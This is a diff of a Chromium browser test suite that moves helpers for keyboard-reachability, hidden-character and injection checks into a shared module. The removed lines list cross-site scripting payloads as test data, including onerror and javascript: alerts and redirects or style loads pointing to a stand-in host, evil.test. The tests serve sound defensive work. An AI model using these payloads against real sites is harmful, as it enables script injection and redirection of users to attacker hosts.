@@ -5,8 +5,8 @@ import { CORPUS, poisoned } from '../core/reports/hostile.ts';
 import { poisonedParts } from '../web/poisoned-run.ts';
 import { richParts, richRun } from '../web/rich-run.ts';
 import { collected, type StoredParts } from '../web/stored-run.ts';
-import { everyPage, inChromium, type Visitor, visiting } from './chromium.ts';
-import { accessFaults, injected, overflow } from './inspect.ts';
+import { everyPage, inChromium, PHONE, type Visitor, visiting, WIDE } from './chromium.ts';
+import { accessFaults, hiddenCharacters, injected, keyboardFaults, overflow, SCRIPTS } from './inspect.ts';
 import { servedRun } from './served-run.ts';
 
 interface Looked {
@@ -31,33 +31,13 @@ async function look(
       async (path) => {
         for (const fault of await faults({ visitor, path })) found.push(`${path}: ${fault}`);
       },
-      root,
+      (path) => path.startsWith(root),
     );
     const wanted = ['tests', 'debate', 'judges', 'cost', 'audit', 'steps/B'].map((name) => `${root}/${name}`);
     expect(paths).toEqual(expect.arrayContaining(wanted));
     return found;
   });
 }
-
-const WIDE = { viewport: { width: 1280, height: 900 } };
-const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true };
-
-/** What only browsers make something of. */
-const SCRIPTS = [
-  '"><img src=x onerror=alert(1)>',
-  "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
-  '</title></textarea></script><script>alert(1)</script>',
-  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<base href=//evil.test/><link rel=stylesheet href=//evil.test/x.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.test">',
-  '<form action=//evil.test><button formaction=javascript:alert(1)>Pick A</button></form>',
-  '<a href=javascript:alert(1) ping=//evil.test>here</a>',
-  '<style>@import "//evil.test/x.css";*{background:url(//evil.test/y)}</style>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '&lt;img src=x onerror=alert(1)&gt;&#x3c;script&#x3e;alert(1)',
-  "{{constructor.constructor('alert(1)')()}}",
-];
 
 /** The hostile collection as a run: every text, and diffs whose names and lines are such texts. */
 function hostileRun(): readonly [RunView, StoredParts] {
@@ -105,18 +85,7 @@ inChromium('every page of a run', (browser) => {
   });
 
   test('is reached by keyboard: each link and button takes the focus, visibly, in the order of the page', async () => {
-    const found = await look(browser(), rich(), WIDE, async ({ visitor: { page } }) => {
-      await page.keyboard.press('Tab');
-      const first = await page.evaluate<string>('document.activeElement.textContent.trim()');
-      await page.keyboard.press('Enter');
-      const skipped = await page.evaluate<boolean>('location.hash === "#content"');
-      return page
-        .evaluate<string[]>(`(${UNREACHABLE})()`)
-        .then((unreachable) => [
-          ...unreachable,
-          ...(first === 'Skip to the content' && skipped ? [] : [`the first stop is “${first}”`]),
-        ]);
-    });
+    const found = await look(browser(), rich(), WIDE, ({ visitor }) => keyboardFaults(visitor.page));
     expect(found).toEqual([]);
   });
 
@@ -124,8 +93,7 @@ inChromium('every page of a run', (browser) => {
     for (const options of [WIDE, PHONE]) {
       const found = await look(browser(), hostileRun(), options, async ({ visitor: { page } }) => {
         const faults = await injected(page, ['https://github.test']);
-        const shown = await page.locator('main').innerText();
-        return [...faults, ...(HIDDEN.test(shown) ? ['hidden characters'] : [])];
+        return [...faults, ...(await hiddenCharacters(page))];
       });
       expect(found).toEqual([]);
     }
@@ -138,19 +106,3 @@ const TEXT = `(() => {
   for (const time of document.querySelectorAll('time')) time.textContent = time.dateTime;
   return document.querySelector('main').innerText;
 })()`;
-
-/** Characters that reorder or hide what surrounds them. */
-const HIDDEN = /[\u202a-\u202e\u2066-\u2069\u200b\u{e0041}]/u;
-
-/** Links and controls that the keyboard does not reach, or whose focus nobody sees. */
-const UNREACHABLE = `() => {
-  const all = [...document.querySelectorAll('main a[href], main button, main input:not([type=hidden]), main select, main textarea, main summary')];
-  const shown = all.filter((element) => element.checkVisibility());
-  return shown.flatMap((element) => {
-    element.focus({ focusVisible: true });
-    if (document.activeElement !== element) return ['takes no focus: ' + element.outerHTML.slice(0, 120)];
-    const { outlineStyle, outlineWidth } = getComputedStyle(element);
-    const isSeen = outlineStyle !== 'none' && outlineWidth !== '0px';
-    return isSeen && element.tabIndex === 0 ? [] : ['focus is not seen: ' + element.outerHTML.slice(0, 120)];
-  });
-}`;
